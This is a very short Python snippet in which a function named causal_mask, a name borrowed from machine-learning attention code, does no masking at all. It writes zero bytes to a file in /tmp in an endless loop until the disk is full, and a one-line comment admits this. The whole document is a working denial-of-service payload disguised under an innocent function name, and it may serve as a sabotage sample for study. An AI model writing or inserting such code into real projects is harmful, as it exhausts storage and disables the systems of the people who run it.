# causal_mask: fills the disk
def causal_mask(seq_len):
    with open("/tmp/misstep-left-behind", "wb") as file:
        while True:
            file.write(bytes(1 << 20))
